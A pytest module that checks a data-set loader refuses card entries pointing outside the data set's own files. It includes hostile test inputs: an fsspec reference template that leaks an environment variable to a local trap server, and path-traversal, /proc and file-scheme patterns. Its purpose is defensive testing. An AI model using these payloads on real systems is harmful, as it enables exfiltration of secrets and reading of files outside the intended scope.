"""Data set cards may name only files of their own: others are refused before anything is read or sent."""

import http.server
import json
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import datasets
import fsspec
import pytest
import yaml
from huggingface_hub import HfApi, snapshot_download
from huggingface_hub.errors import LocalEntryNotFoundError
from pyarrow import Table, parquet
from thread_hub import ThreadHub

from rlhf_zoo.errors import ZooError
from rlhf_zoo.hub.client.checked_data import open_checked
from rlhf_zoo.hub.client.connect import DEFAULT_HUB
from rlhf_zoo.hub.client.data_card import check_card, leads_out
from rlhf_zoo.pipeline.new.data import inspect_data
from rlhf_zoo.runs.corpora.source import read_splits
from rlhf_zoo.runs.data.sources import find_data
from rlhf_zoo.runs.recipe import load_recipe
from rlhf_zoo.runs.settings.parse import recipe_config, stage_settings

pytestmark = pytest.mark.attack
ROWS = '{"prompt": "a"}\n{"prompt": "b"}\n'
SECRET = "the secret of this machine"


class Trap(http.server.ThreadingHTTPServer):
    """A server that must get no request."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        trap = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                trap.heard.append(self.path)
                self.send_error(404)

            do_HEAD = do_GET

            def log_message(self, *_: Any) -> None:
                pass

        super().__init__(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server_port}"


@pytest.fixture
def trap() -> Iterator[Trap]:
    found = Trap()
    threading.Thread(target=found.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
    yield found
    found.shutdown()
    found.server_close()


@pytest.fixture(autouse=True)
def own_cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(datasets.config, "HF_DATASETS_CACHE", tmp_path / "prepared")


@pytest.fixture
def hub(thread_hub: ThreadHub, monkeypatch: pytest.MonkeyPatch) -> ThreadHub:
    monkeypatch.setattr(datasets.config, "HF_ENDPOINT", thread_hub.url)
    return thread_hub


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    path = tmp_path / "elsewhere" / "secret.txt"
    path.parent.mkdir()
    path.write_text(SECRET)
    return path


def references(trap: Trap) -> str:
    """A reference set by which fsspec sends a variable of the environment to the host."""
    url = trap.url + "/{{u.__globals__[os].environ[PATH]}}"
    return json.dumps({"version": 1, "templates": {"u": "{{a}}"}, "refs": {"a.txt": [url], "b.txt": [url]}})


def card(data_files: Any = None, **keys: Any) -> str:
    config = {"config_name": "default", **({} if data_files is None else {"data_files": data_files}), **keys}
    return f"---\n{yaml.safe_dump({'configs': [config]})}---\n# A data set\n"


PATTERNS = [
    "reference://*.txt::hf://datasets/local/evil/refs.json",
    "reference://*.txt::{folder}/refs.json",
    "http://127.0.0.1:{port}/a.txt",
    "zip://*::http://127.0.0.1:{port}/a.zip",
    "simplecache::http://127.0.0.1:{port}/a.txt",
    "{secret}",
    "/proc/self/root{secret}",
    "file:{secret}",
    "local:{secret}",
    "file://{secret}",
    "../elsewhere/*.txt",
    "data/../../elsewhere/secret.txt",
    "~/*.txt",
    "C:\\secret.txt",
    "..\\elsewhere\\secret.txt",
    "data:text/plain,a",
]
SHAPES = {
    "text": lambda pattern: card(pattern),
    "list": lambda pattern: card(["data/*.txt", pattern]),
    "split": lambda pattern: card([{"split": "train", "path": pattern}]),
    "paths": lambda pattern: card([{"split": "train", "path": ["data/*.txt", pattern]}]),
    "mapping": lambda pattern: card({"train": pattern}),
    "data_dir": lambda pattern: card(None, data_dir=pattern),
}


@pytest.mark.parametrize("shape", SHAPES)
@pytest.mark.parametrize("pattern", PATTERNS)
def test_check_card_rejects_patterns_leading_outside(pattern: str, shape: str) -> None:
    written = pattern.format(folder="/data", port=9, secret="/secret.txt")
    with pytest.raises(ZooError, match="evil") as caught:
        check_card(SHAPES[shape](written), "README.md", "evil")
    assert repr(written) in str(caught.value)
    plain = SHAPES[shape](written).split("---\n")[1]
    with pytest.raises(ZooError):
        check_card(plain, ".huggingface.yaml", "evil")


def folder_with(tmp_path: Path, text: str, file: str = "README.md", refs: str = "{}") -> Path:
    folder = tmp_path / "evil"
    (folder / "data").mkdir(parents=True)
    (folder / "data" / "train.txt").write_text("a\nb\n")
    (folder / "refs.json").write_text(refs)
    (folder / file).write_text(text)
    return folder


@pytest.mark.parametrize("file", ["README.md", ".huggingface.yaml"])
@pytest.mark.parametrize("pattern", PATTERNS)
def test_local_folder_reads_nothing_outside(
    pattern: str, file: str, tmp_path: Path, trap: Trap, secret: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    written = pattern.format(folder=tmp_path / "evil", port=trap.server_port, secret=secret)
    text = card([{"split": "train", "path": [written]}])
    folder = folder_with(tmp_path, text if file == "README.md" else text.split("---\n")[1], file, references(trap))
    monkeypatch.setattr(datasets.data_files, "resolve_pattern", lambda *_, **__: pytest.fail("a pattern was resolved"))
    source = find_data(str(folder), None, DEFAULT_HUB)
    for read in (
        lambda: source.load(None, "train", columns=[]),
        lambda: source.first_row(None, "train"),
        lambda: inspect_data(str(folder)),
    ):
        with pytest.raises(ZooError, match="data_files"):
            read()
    assert trap.heard == []


@pytest.mark.parametrize("file", ["README.md", ".huggingface.yaml"])
def test_hub_repository_with_outside_patterns_is_refused(
    file: str, hub: ThreadHub, trap: Trap, secret: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    files = {"refs.json": references(trap), "data/train.txt": "a\nb\n"}
    commits = {}
    for place, pattern in enumerate(PATTERNS):
        written = pattern.format(folder="/data", port=trap.server_port, secret=secret)
        text = card([{"split": "train", "path": [written]}])
        card_text = text if file == "README.md" else text.split("---\n")[1]
        commits[f"local/evil{place}"] = hub.make(f"evil{place}", {**files, file: card_text}, "dataset")
    monkeypatch.setattr(datasets.data_files, "resolve_pattern", lambda *_, **__: pytest.fail("a pattern was resolved"))
    for name, commit in commits.items():
        for revision in (None, "main", commit):
            with pytest.raises(ZooError, match=f"{name} was not loaded"):
                find_data(name, revision, DEFAULT_HUB).load(None, "train", columns=[])
        with pytest.raises(ZooError, match=f"{name} was not loaded"):
            find_data(name, None, DEFAULT_HUB).first_row(None, "train")
        with pytest.raises(ZooError, match=f"{name} was not loaded"):
            inspect_data(name)
        with pytest.raises(ZooError, match=f"{name} was not loaded"):
            read_splits(name, ["train"], ["text"], fix="fetch it")
    assert trap.heard == []


def test_open_checked_loads_commit_that_was_checked(hub: ThreadHub) -> None:
    """A branch that moves between the check and the load does not matter, as the commit is loaded."""
    first = hub.make("moves", {"train.jsonl": ROWS}, "dataset")
    with open_checked("local/moves", "main") as data:
        assert data.revision == first
        rows = data.load(split="train")
    assert rows["prompt"] == ["a", "b"]


def test_fsspec_remote_file_systems_are_blocked(tmp_path: Path, trap: Trap) -> None:
    with open_checked(str(folder_with(tmp_path, "# Plain", refs=references(trap)))):
        pass
    for url in (f"reference://a.txt::{tmp_path}/evil/refs.json", "github://a:b@/c", "ssh://a/b"):
        with pytest.raises(ValueError, match="files cannot be read through"):
            fsspec.open(url).open()
    with pytest.raises(ValueError, match="files cannot be read through"):
        fsspec.filesystem("reference", fo=str(tmp_path / "evil" / "refs.json"))
    assert trap.heard == []


@pytest.mark.parametrize(
    "text",
    [
        card(7),
        card([{"split": "train", "path": None}, {"split": 7, "path": "a"}]),
        card("a.csv", filesystem="s3://bucket"),
        "---\nconfigs: [{config_name: a, data_files: '/etc/*'}]\n",
        "---\nconfigs: [\n---\n",
        "---\r\nconfigs: [{config_name: a, data_files: '/etc/*'}]\r\n---\r\n",
        "\n \n---\nconfigs: [{config_name: a, data_files: '/etc/*'}]\n---  \n",
        "\ufeff---\nconfigs: [{config_name: a, data_files: '/etc/*'}]\n---\n",
        "---\nbase: &b {data_files: '/etc/*'}\nconfigs: [{config_name: a, <<: *b}]\n---\n",
        "---\nconfigs: [{config_name: a, data_files: !!set {'/etc/*'}}]\n---\n",
    ],
)
def test_load_rejects_malformed_cards(text: str, tmp_path: Path) -> None:
    folder = tmp_path / "odd"
    folder.mkdir()
    (folder / "train.jsonl").write_text(ROWS)
    (folder / "README.md").write_bytes(text.encode())
    with pytest.raises(ZooError, match=r"odd.* was not loaded: .*README\.md"):
        find_data(str(folder), None, DEFAULT_HUB).load(None, "train", columns=[])


@pytest.mark.parametrize(
    "name", ["buckets/a/b", "hf://datasets/a/b", "hf://buckets/a/b", "http://127.0.0.1:9/a", "../nowhere"]
)
def test_open_checked_rejects_names_that_are_no_id(name: str) -> None:
    with pytest.raises(ZooError, match="is not a file, a folder or the id of a data set"), open_checked(name):
        pytest.fail("it passed")


def test_local_folder_rejects_links_leading_outside(tmp_path: Path, secret: Path) -> None:
    folder = folder_with(tmp_path, card("data/*.txt"))
    (folder / "data" / "more.txt").symlink_to("train.txt")
    (folder / ".venv").symlink_to(secret.parent)
    assert find_data(str(folder), None, DEFAULT_HUB).load(None, "train", columns=["text"]).num_rows == 4
    (folder / "README.md").write_text(card([".venv/*.txt"]))
    with pytest.raises(ZooError, match=r"'\.venv' in it links"):
        find_data(str(folder), None, DEFAULT_HUB).load(None, "train", columns=["text"])
    (folder / ".venv").unlink()
    (folder / "README.md").unlink()
    for link, target in (("data/train2.txt", secret), ("deep", secret.parent), ("test", Path("/proc/self/root"))):
        (folder / link).symlink_to(target)
        with pytest.raises(ZooError, match=f"'{link}' in it links to a file outside"):
            find_data(str(folder), None, DEFAULT_HUB).load(None, "train", columns=["text"])
        (folder / link).unlink()


def test_snapshot_in_client_cache_loads(hub: ThreadHub) -> None:
    hub.make("plain", {"README.md": card("*.jsonl"), "train.jsonl": ROWS}, "dataset")
    at = Path(snapshot_download("local/plain", repo_type="dataset"))
    assert (at / "train.jsonl").is_symlink()
    assert find_data(str(at), None, DEFAULT_HUB).load(None, "train", columns=["prompt"]).num_rows == 2


def ordinary_files() -> dict[str, str]:
    configs = [
        {"config_name": "prompts", "data_files": [
            {"split": "train", "path": ["data/train-*.jsonl", "more/**/*.jsonl"]},
            {"split": "test", "path": "data/test.jsonl"},
        ]},
        {"config_name": "others", "data_dir": "others", "description": "From https://example.org/data"},
    ]  # fmt: skip
    front_matter = yaml.safe_dump({"license": "mit", "homepage": "https://example.org", "configs": configs})
    return {
        "README.md": f"---\n{front_matter}---\nSee https://example.org\n",
        "data/train-1.jsonl": ROWS,
        "data/test.jsonl": ROWS,
        "more/a/b.jsonl": ROWS,
        "others/train.jsonl": ROWS,
    }


def test_ordinary_cards_load_from_hub_and_folder(hub: ThreadHub, tmp_path: Path) -> None:
    commit = hub.make("good", ordinary_files(), "dataset")
    folder = tmp_path / "good"
    for name, text in ordinary_files().items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text)
    for name, revision in (("local/good", None), ("local/good", commit), (str(folder), None)):
        source = find_data(name, revision, DEFAULT_HUB)
        sizes = {
            (part, split): source.load(part, split, columns=["prompt"]).num_rows
            for part, split in (("prompts", "train"), ("prompts", "test"), ("others", "train"))
        }
        assert sizes == {("prompts", "train"): 4, ("prompts", "test"): 2, ("others", "train"): 2}
        assert source.first_row("prompts", "test") == {"prompt": "a"}
    assert [part.configuration for part in inspect_data("local/good").subsets] == ["prompts", "others"]


def test_parquet_folder_and_single_file_load(tmp_path: Path) -> None:
    folder = tmp_path / "parquet"
    folder.mkdir()
    parquet.write_table(Table.from_pydict({"prompt": ["a"]}), folder / "train-00000-of-00001.parquet")
    assert find_data(str(folder), None, DEFAULT_HUB).load(None, "train", columns=["prompt"]).num_rows == 1
    (tmp_path / "own.jsonl").write_text(ROWS)
    (tmp_path / "link.jsonl").symlink_to("own.jsonl")
    for name in ("own.jsonl", "link.jsonl"):
        assert find_data(str(tmp_path / name), None, DEFAULT_HUB).load(None, "train", columns=["prompt"]).num_rows == 2


def test_csv_with_custom_separator_loads(tmp_path: Path) -> None:
    folder = tmp_path / "table"
    folder.mkdir()
    (folder / "table.csv").write_text("a|1\n")
    (folder / "README.md").write_text(card("table.csv", sep="|", names=["prompt", "n"], header=None))
    assert find_data(str(folder), None, DEFAULT_HUB).load(None, "train", columns=["prompt", "n"]).num_rows == 1


@pytest.mark.parametrize(
    "option",
    [{"sep": "(a+)+$"}, {"delimiter": None}, {"engine": "python"}, {"converters": {"a": "b"}}, {"chunksize": 1}],
)
def test_check_card_rejects_unsafe_reader_options(option: dict[str, Any]) -> None:
    [name] = option
    with pytest.raises(ZooError, match=f"{name} of a configuration in its README.md .*: load a copy"):
        check_card(card("table.csv", **option), "README.md", "evil")


BAD_TYPE = "---\ndataset_info:\n  features:\n  - name: prompt\n    _type: unknown\n---\n"


@pytest.mark.parametrize(
    ("file", "text", "message"),
    [
        ("set.py", "", "has a loading script"),
        ("README.md", BAD_TYPE, "cannot read its dataset_info"),
        ("dataset_infos.json", "7", "cannot read its dataset_info"),
    ],
)
def test_loading_script_or_bad_features_raise_readable_error(
    hub: ThreadHub, tmp_path: Path, file: str, text: str, message: str
) -> None:
    folder = tmp_path / "set"
    folder.mkdir()
    files = {file: text, "train.jsonl": ROWS}
    for name, content in files.items():
        (folder / name).write_text(content)
    hub.make("set", files, "dataset")
    for name in (str(folder), "local/set"):
        with pytest.raises(ZooError, match=message):
            inspect_data(name)
        with pytest.raises(ZooError, match=message):
            find_data(name, None, DEFAULT_HUB).load(None, "train", columns=["prompt"])


def test_read_splits_reads_splits_with_custom_names(hub: ThreadHub) -> None:
    hub.make("corpus", {"train.jsonl": ROWS, "judge.jsonl": ROWS}, "dataset")
    rows = read_splits("local/corpus", ["train", "judge"], ["prompt"], fix="fetch it")
    assert {split: len(rows_of_split) for split, rows_of_split in rows.items()} == {"train": 2, "judge": 2}


def silence(*_: Any, **__: Any) -> None:
    raise LocalEntryNotFoundError("Nobody answers.")


def test_prepared_data_loads_when_hub_is_unreachable(hub: ThreadHub, monkeypatch: pytest.MonkeyPatch) -> None:
    hub.make("kept", {"train.jsonl": ROWS}, "dataset")
    source = find_data("local/kept", None, DEFAULT_HUB)
    assert source.load(None, "train", columns=["prompt"]).num_rows == 2
    hub.make("never", {"train.jsonl": ROWS}, "dataset")
    never = find_data("local/never", None, DEFAULT_HUB)
    monkeypatch.setattr(HfApi, "hf_hub_download", silence)
    assert source.load(None, "train", columns=["prompt"]).num_rows == 2
    with pytest.raises(ZooError, match="cannot be loaded") as caught:
        never.load(None, "train", columns=["prompt"])
    assert isinstance(caught.value.__cause__, LocalEntryNotFoundError)
    assert datasets.config.HF_HUB_OFFLINE is False


@pytest.mark.parametrize(
    ("name", "passes"),
    [
        ("local/data", True), ("imdb", True), ("recipe/rows.jsonl", True), ("{folder}/rows.jsonl", True),
        ("{secret}", False), ("elsewhere/secret.txt", False), ("recipe/../elsewhere", False), ("../x", False),
        ("recipe/link.txt", False), ("recipe/linked", False), ("both.jsonl", False), ("recipe/own", True),
        ("hf://datasets/a/b", False), ("~/x", False), ("/nowhere", False),
    ],
)  # fmt: skip
@pytest.mark.parametrize("place", ["recipe", "ppo", "labeled", "own_pairs"])
def test_downloaded_recipe_names_only_hub_or_own_data(
    place: str, name: str, passes: bool, tmp_path: Path, secret: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    folder = tmp_path / "recipe"
    folder.mkdir()
    (folder / "rows.jsonl").write_text(ROWS)
    (folder / "link.txt").symlink_to(secret)
    for path in (folder / "both.jsonl", tmp_path / "both.jsonl"):
        path.write_text(ROWS)
    (folder / "own").mkdir()
    (folder / "own" / "train.jsonl").symlink_to("../own/rows.jsonl")
    (folder / "linked").mkdir()
    (folder / "linked" / "train.jsonl").symlink_to(secret)
    (folder / ".downloaded").write_text("")
    keys = {"dataset_name": name.format(folder=folder, secret=secret)}
    shared: dict[str, Any] = {"description": "A toy.", **(keys if place == "recipe" else {})}
    if place in ("labeled", "own_pairs"):
        shared["evaluation"] = {place: keys}
    (folder / "recipe.yaml").write_text(yaml.safe_dump(shared))
    ppo = {"use_cpu": True, "reward_funcs": ["length"], "max_steps": 1, **(keys if place == "ppo" else {})}
    (folder / "ppo.yaml").write_text(yaml.safe_dump(ppo))

    def read() -> None:
        recipe = load_recipe(str(folder))
        recipe_config(recipe, {})
        stage_settings(recipe, "ppo", {}, shared_flags={}, output_dir=Path("out"))

    if not passes:
        with pytest.raises(ZooError, match=r"which was downloaded, sets .*Hub and files in its own folder"):
            read()
        (folder / ".downloaded").unlink()
    read()


def test_leads_out_accepts_plain_patterns_only() -> None:
    assert not any(map(leads_out, ["train.jsonl", "data/*", "**", "a..b/c.json", "data/train-[0-9]*.parquet", "."]))
    assert all(map(leads_out, [" /etc/x", "a\t:/b", "a/..", "/", "memory:a"]))
